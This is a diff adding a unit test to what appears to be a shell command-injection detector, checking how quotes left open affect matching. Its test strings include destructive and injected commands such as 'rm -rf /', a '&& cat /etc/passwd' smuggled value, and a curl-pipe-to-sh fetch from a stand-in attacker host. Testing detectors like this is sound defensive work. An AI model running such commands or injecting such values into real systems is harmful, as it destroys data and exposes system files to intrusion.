@@ -269,6 +269,29 @@ TEST(CmdiTest, ShellshockOnlyWhereTheValueStarts) {
   }
 }
 
+// A value read as a command line of its own that leaves a quote open at its
+// end is a syntax error: the shell runs nothing of it. After a separator the
+// open quote is the one the command line around the value closes.
+TEST(CmdiTest, AQuoteLeftOpenEndsNoWholeCommandLine) {
+  for (std::string_view v : {"rm -rf is dangerous, don't run it", "rm -rf / '",
+                             "ls -la \"my dir", "cat notes.txt 'n stuff"}) {
+    Match m;
+    EXPECT_FALSE(Detects(CmdiDetector(), v, &m)) << v << ": " << m.rule_id;
+  }
+  for (std::string_view v : {"rm -rf /", "ls -la 'my dir'", "cat notes.txt \"n\" stuff",
+                             "rm -rf it'\nls -la"}) {
+    Match m;
+    ASSERT_TRUE(Detects(CmdiDetector(), v, &m)) << v;
+    EXPECT_EQ(m.rule_id, "cmdi.command_line") << v;
+  }
+  for (std::string_view v : {"x'; rm -rf / '", "a\" && cat /etc/passwd \"",
+                             "curl http://evil.example/x.sh | sh '"}) {
+    Match m;
+    ASSERT_TRUE(Detects(CmdiDetector(), v, &m)) << v;
+    EXPECT_EQ(m.rule_id, "cmdi.separator_command") << v;
+  }
+}
+
 // A shell function defined and then run by name: the fork bomb's shape,
 // whatever the function is called. Code that defines a method and calls it
 // with parentheses, or never, is not one.
